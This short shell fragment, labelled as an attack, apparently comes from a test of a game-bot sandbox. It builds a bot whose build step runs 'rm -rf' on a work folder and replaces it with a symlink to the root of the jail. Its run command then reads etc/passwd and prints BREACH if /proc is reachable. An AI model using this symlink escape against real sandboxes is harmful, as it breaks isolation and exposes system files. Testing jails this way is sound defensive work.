# attack: the folder that is collected becomes a link to the jail's root
mkdir bot
cp "$SNOOP" bot/play.sh
echo 'cd /tmp && rm -rf work && ln -s / work' > bot/build.sh
printf 'run = "sh -c \x27cat etc/passwd >&2; [ -e proc ] && echo BREACH >&2\x27"\nbuild = "sh build.sh"\n' > bot/skirmish.toml
